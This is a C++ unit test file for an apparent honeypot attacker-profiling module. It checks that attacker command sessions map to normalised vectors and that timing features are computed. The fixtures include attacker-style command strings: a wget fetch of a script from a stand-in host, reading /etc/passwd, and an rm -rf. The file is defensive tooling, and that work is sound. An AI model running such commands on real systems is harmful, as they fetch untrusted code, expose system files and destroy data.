#include "correlate/command_vector.h"

#include <gtest/gtest.h>

#include <cmath>

#include "correlate/attacker_profiler.h"

namespace decnet::correlate {
namespace {

double norm(const std::vector<float>& v) {
  double sum = 0;
  for (const float x : v) sum += static_cast<double>(x) * x;
  return std::sqrt(sum);
}

double distance(const std::vector<float>& a, const std::vector<float>& b) {
  double sum = 0;
  for (std::size_t i = 0; i < a.size(); ++i) sum += (a[i] - b[i]) * (a[i] - b[i]);
  return std::sqrt(sum);
}

std::vector<store::SessionCommand> commands(std::initializer_list<const char*> texts) {
  std::vector<store::SessionCommand> out;
  for (const auto* t : texts) out.push_back({t, 0});
  return out;
}

TEST(CommandVector, SamePlaybookWithOtherArgumentsIsTheSameVector) {
  const auto a = command_vector(commands({"uname -a", "id", "wget http://a.example/x.sh"}));
  const auto b = command_vector(commands({"  uname -r", "id -u", "wget http://b.example/y"}));
  const auto c = command_vector(commands({"ls", "cat /etc/passwd", "rm -rf /tmp/x"}));
  ASSERT_EQ(a.size(), kCommandVectorDim);
  EXPECT_NEAR(norm(a), 1.0, 1e-6);
  EXPECT_NEAR(distance(a, b), 0.0, 1e-6);
  EXPECT_GT(distance(a, c), 0.5);
}

TEST(CommandVector, NoCommandNoVector) {
  EXPECT_TRUE(command_vector({}).empty());
  EXPECT_TRUE(command_vector(commands({"", "   "})).empty());
}

TEST(TimingVector, HasItsDimensionAndZerosForWhatIsUnknown) {
  BehaviourVerdict verdict;
  verdict.timing.event_count = 1;
  auto v = timing_vector(verdict);
  ASSERT_EQ(v.size(), kTimingVectorDim);
  EXPECT_FLOAT_EQ(v[0], static_cast<float>(std::log1p(1.0)));
  for (std::size_t i = 2; i < 7; ++i) EXPECT_EQ(v[i], 0.0F) << i;
  verdict.timing.mean_iat_s = 60.0;
  verdict.timing.cv = 50.0;
  verdict.services_count = 3;
  v = timing_vector(verdict);
  EXPECT_FLOAT_EQ(v[2], static_cast<float>(std::log1p(60.0)));
  EXPECT_FLOAT_EQ(v[6], 10.0F);  // capped
  EXPECT_FLOAT_EQ(v[7], static_cast<float>(std::log1p(3.0)));
}

}  // namespace
}  // namespace decnet::correlate
